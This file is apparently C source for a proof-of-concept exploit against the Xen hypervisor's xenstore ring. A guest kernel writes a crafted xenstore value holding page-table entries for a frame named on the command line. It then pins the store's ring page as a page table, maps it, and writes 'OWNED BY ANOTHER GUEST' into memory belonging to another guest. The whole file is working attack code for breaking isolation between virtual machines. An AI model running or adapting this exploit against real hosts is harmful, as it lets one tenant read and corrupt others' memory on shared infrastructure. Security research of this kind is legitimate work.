/* Has the store write an entry of its choice: its page is to become a page table, with a request in it that nobody has
 * answered yet.  The command line is the frame that the entry is to map, in hexadecimal. */
#include "kit.h"

struct ring {
    u8 req[1024], rsp[1024];
    volatile u32 req_cons, req_prod, rsp_cons, rsp_prod;
};
enum { XS_READ = 2, XS_WRITE = 11 };
struct request { u32 type, id, transaction, length; char path[8]; };
static struct ring *ring;

static u64 hex(const u8 *text)
{
    u64 value = 0;
    for (; *text; text++)
        value = value * 16 + (*text <= '9' ? *text - '0' : *text - 'a' + 10);
    return value;
}

static void ask_the_store(void) { hypercall(event_channel_op, EVTCHNOP_send, &(u32){ start_info->store_evtchn }); }

static void wait_for(u32 bytes)
{
    while (ring->rsp_prod < bytes)
        hypercall(sched_op, SCHEDOP_yield, 0);
}

void main(void)
{
    u64 pte = hex((u8 *)start_info->cmd_line) * PAGE | KERNEL_PTE, mfn = start_info->store_mfn,
        window = 0xffffffffa0000000ul;
    struct { struct request head; u64 entries[4]; } packed write = { { XS_WRITE, 0, 0, 39, "data/x" }, { 0 } };
    struct request read = { XS_READ, 0, 0, 7, "data/x" };
    u8 *value = (u8 *)write.entries - 1;

    ring = mfn_to_virt(mfn);
    for (int i = 0; i < 4; i++)
        memcpy(value + 8 * i, &pte, 8);
    memcpy(ring->req, &write, 16 + 39);
    ring->req_prod = 16 + 39;
    ask_the_store();
    wait_for(16 + 3);

    memset(ring->rsp, 0, sizeof ring->rsp);
    memcpy(ring->req + 64, &read, 16 + 7);
    ring->req_cons = ring->req_prod = 64, ring->rsp_cons = ring->rsp_prod = 0;
    printf("read-only %ld, ", page_readonly(ring));
    printf("pinned %ld, ", mmuext(MMUEXT_PIN_L1_TABLE, mfn, 0));
    map_page(window - 0x200000, 0);
    long hooked = pte_set(window, 2, mfn * PAGE | USER_PTE);
    printf("below an L2 %ld, ", hooked);
    mmu_update_one(mfn * PAGE + 2048, 64 | (u64)(64 + 23) << 32);
    ask_the_store();
    wait_for(16 + 32);
    if (hooked == 0) {
        mmuext(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        memcpy((void *)(window + (1024 + 16) / 8 * PAGE), "OWNED BY ANOTHER GUEST", 22);
        printf("written\n");
    } else {
        printf("the store answered %s\n", memcmp(ring->rsp + 16, &pte, 8) ? "something else" : "with the entry");
    }
}
